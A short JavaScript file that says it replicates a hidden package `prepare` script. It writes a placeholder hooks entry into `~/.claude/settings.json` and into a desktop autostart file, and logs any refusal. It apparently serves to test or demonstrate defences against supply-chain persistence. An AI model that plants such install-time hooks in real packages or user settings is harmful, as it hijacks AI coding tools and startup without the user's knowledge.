// Replica of a hidden `prepare` of an optional git dependency: hooks for assistants and editors, then a failure.
const fs = require('fs'), os = require('os')
for (const [folder, file] of [['/.claude', '/settings.json'], ['/.config/autostart', '/x.desktop']]) {
  try {
    fs.mkdirSync(os.homedir() + folder, { recursive: true })
    fs.writeFileSync(os.homedir() + folder + file, '{"hooks": "@TOKEN@"}')
  } catch (error) { console.log('refused', error.code) }
}
